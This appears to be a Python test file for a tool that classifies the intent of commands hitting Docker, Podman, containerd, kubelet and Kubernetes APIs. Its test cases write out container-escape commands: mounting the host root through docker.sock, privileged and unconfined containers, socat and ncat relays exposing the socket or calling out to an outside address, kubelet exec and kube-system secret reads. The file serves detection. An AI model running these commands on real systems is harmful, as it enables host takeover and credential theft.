"""Requests to a daemon's API by curl and its like."""

import pytest

from agent.intent.model import FileReference
from tests.intents import asked, powers, read

CREATE = "http://x/v1.41/containers/create"
BIND = '{"Type":"bind","Source":"/","Target":"/h"}'
SOCKET = "--unix-socket /var/run/docker.sock"


class TestDocker:
    """The Engine API."""

    @pytest.mark.parametrize(
        "line",
        [
            f"""curl -s -XPOST {SOCKET} -d '{{"Image":"a","HostConfig":{{"Binds":["/:/h"]}}}}' {CREATE}""",
            f"""curl {SOCKET} --json '{{"hostconfig":{{"binds":["//:/h:rw"]}}}}' {CREATE}?name=x""",
            f"""curl {SOCKET} --data-binary='{{"Binds":["/:/h"]}}' {CREATE}""",
            f"""curl --unix-s /run/docker.sock {CREATE} -d '{{"HostConfig":{{"Mounts":[{BIND}]}}}}'""",
            """curl http://10.0.0.5:2375/containers/create -d '{"HostConfig":{"Binds":["/..:/h"]}}'""",
            """wget --post-data='{"HostConfig":{"Binds":["/:/h"]}}' http://10.0.0.5:2375/containers/create""",
        ],
    )
    def test_root_mount(self, line):
        """A container with the host's root, in the ways to say so."""
        intent = read(line)
        assert ("docker", "create", "api", ("/",)) == (intent.tool, intent.verb, intent.source, intent.mounts)

    @pytest.mark.parametrize(
        ("settings", "expected"),
        [
            ('"Privileged":true', {"privileged": True}),
            ('"privileged":false', {}),
            ('"PidMode":"host","NetworkMode":"host"', {"host_namespaces": ("net", "pid")}),
            ('"PidMode":"container:x"', {}),
            ('"CapAdd":["sys_admin"]', {"capabilities": ("SYS_ADMIN",)}),
            ('"SecurityOpt":["seccomp=unconfined"]', {"unconfined": ("seccomp",)}),
            ('"MaskedPaths":[]', {"unconfined": ("masked-paths",)}),
            ('"Devices":[{"PathOnHost":"/dev/sda"}]', {"devices": ("/dev/sda",)}),
            (
                '"Mounts":[{"Type":"volume","VolumeOptions":{"DriverConfig":{"Options":{"o":"bind","device":"/"}}}}]',
                {"mounts": ("/",)},
            ),
        ],
    )
    def test_host_config(self, settings, expected):
        """The body's HostConfig."""
        assert expected == powers(f"""curl {SOCKET} {CREATE} -d '{{"HostConfig":{{{settings}}}}}'""")

    def test_file(self):
        """A body from a file is named for its reader."""
        assert (FileReference("json-body", "/tmp/b.json"),) == read(f"curl {SOCKET} -d @/tmp/b.json {CREATE}").files
        assert (FileReference("json-body", "-"),) == read(f"curl {SOCKET} -d @- {CREATE}").files

    @pytest.mark.parametrize(
        ("line", "verb", "target"),
        [
            (f"curl {SOCKET} http://x/containers/json", "ps", None),
            (f"curl {SOCKET} http://x/v1.41/images/json", "images", None),
            (f"curl -X DELETE {SOCKET} http://x/containers/abc?force=1", "rm", "abc"),
            (f"curl -XPOST {SOCKET} http://x/containers/abc/start", "start", "abc"),
            (f"curl {SOCKET} -XPOST http://x/containers/abc/exec -d '{{}}'", "exec", "abc"),
            (f"curl {SOCKET} -T x.tar http://x/containers/abc/archive?path=/", "cp", "abc"),
            (f"curl {SOCKET} http://x/info", "info", None),
            (f"curl {SOCKET} http://x/whatever", None, None),
            (f"curl {SOCKET}", None, None),
        ],
    )
    def test_calls(self, line, verb, target):
        """A call has the name of the command that makes it."""
        assert (verb, target) == (read(line).verb, read(line).target)
        assert "/run/docker.sock" == read(line).endpoint

    def test_exec(self):
        """What an exec asks for."""
        line = f"""curl {SOCKET} http://x/containers/a/exec -d '{{"Cmd":["sh"],"Privileged":true,"Tty":true}}'"""
        intent = read(line)
        assert (True, True, ("sh",)) == (intent.privileged, intent.interactive, intent.command)

    def test_broken_body(self):
        """A body that is no JSON still tells the call."""
        assert "create" == read(f"curl {SOCKET} -d '{{x' {CREATE}").verb
        assert "create" == read(f"curl {SOCKET} -d '{'[' * 100_000}' {CREATE}").verb


class TestOthers:
    """Other APIs and other clients."""

    @pytest.mark.parametrize(
        ("line", "tool", "endpoint"),
        [
            ("socat - UNIX-CONNECT:/var/run/docker.sock", "docker", "/run/docker.sock"),
            ("socat TCP-LISTEN:2375,fork GOPEN:/run/docker.sock", "docker", "/run/docker.sock"),
            ("nc -U /run/podman/podman.sock", "podman", "/run/podman/podman.sock"),
            ("ncat --unixsock /run/docker.sock", "docker", "/run/docker.sock"),
            (
                "grpcurl -plaintext -unix /run/containerd/containerd.sock list",
                "containerd",
                "/run/containerd/containerd.sock",
            ),
            ("grpcurl -plaintext unix:///run/crio/crio.sock list", "crio", "/run/crio/crio.sock"),
            ("python3 -c 's.connect(\"/run/docker.sock\")'", "docker", "/run/docker.sock"),
            (
                "curl --unix-socket /run/podman/podman.sock http://d/v4.0.0/libpod/containers/json",
                "podman",
                "/run/podman/podman.sock",
            ),
        ],
    )
    def test_sockets(self, line, tool, endpoint):
        """The socket tells the engine."""
        intent = read(line)
        assert (tool, endpoint, "api") == (intent.tool, intent.endpoint, intent.source)

    def test_relay(self):
        """A relay of the socket to the network says where it listens."""
        assert ("listen:tcp://:2375",) == read("socat TCP-LISTEN:2375,fork UNIX-CONNECT:/run/docker.sock").facts

    @pytest.mark.parametrize(
        "line",
        [
            "ncat -lk 2375 -c 'nc -U /var/run/docker.sock'",
            "ncat -l -p 2375 --sh-exec 'socat - UNIX:/run/docker.sock'",
            "nc -l -p 2375 -e '/usr/bin/nc -U /run/docker.sock'",
            "socat TCP-LISTEN:2375,fork EXEC:'nc -U /run/docker.sock'",
            "socat tcp-l:2375 'SYSTEM:curl --unix-socket /run/docker.sock http://x/info'",
        ],
    )
    def test_relay_by_program(self, line):
        """A listener that starts another client of the socket for each caller is a relay as well."""
        intent = read(line)
        assert ("docker", "/run/docker.sock", ("listen:tcp://:2375",)) == (intent.tool, intent.endpoint, intent.facts)

    @pytest.mark.parametrize("word", ["TCP:203.0.113.4:443", "openssl-connect:203.0.113.4:443,verify=0"])
    def test_relay_outwards(self, word):
        """A relay may call out instead of listening."""
        assert ("relay:tcp://203.0.113.4:443",) == read(f"socat {word} UNIX:/run/docker.sock").facts

    def test_escaped_socket(self):
        """Client libraries take the socket's path inside of a URL."""
        line = "python3 -c 'r.get(\"http+unix://%2Fvar%2Frun%2Fdocker.sock/info\")'"
        assert "/run/docker.sock" == read(line).endpoint

    def test_kubelet(self):
        """The kubelet's own API."""
        intent = read("curl -k https://10.0.0.5:10250/run/default/web/app -d cmd=id")
        assert ("kubelet", "exec", "default", "web", ("id",)) == (
            intent.tool,
            intent.verb,
            intent.namespace,
            intent.target,
            intent.command,
        )

    def test_cluster(self):
        """The Kubernetes API."""
        intent = read("curl -H 'Authorization: Bearer x' https://h/api/v1/namespaces/kube-system/secrets")
        assert ("kubernetes", "get", "kube-system", ("secrets",), ("token",)) == (
            intent.tool,
            intent.verb,
            intent.namespace,
            intent.resources,
            intent.facts,
        )
        created = read("curl -XPOST -d @pod.json https://h/api/v1/namespaces/x/pods")
        assert ("create", (FileReference("manifest", "/work/pod.json"),)) == (created.verb, created.files)

    @pytest.mark.parametrize(
        "line",
        [
            "curl https://example.com/api/v2/x",
            "curl --unix-socket /run/snapd.socket http://x/v2/snaps",
            "nc -l 2375",
            "wget https://example.com",
            "socat - TCP:h:80",
            "curl http://h:8080/containers/create",
            "python3 -c 'print(1)'",
        ],
    )
    def test_nothing(self, line):
        """Requests to anything else ask for nothing of this kind."""
        assert asked(line) is None
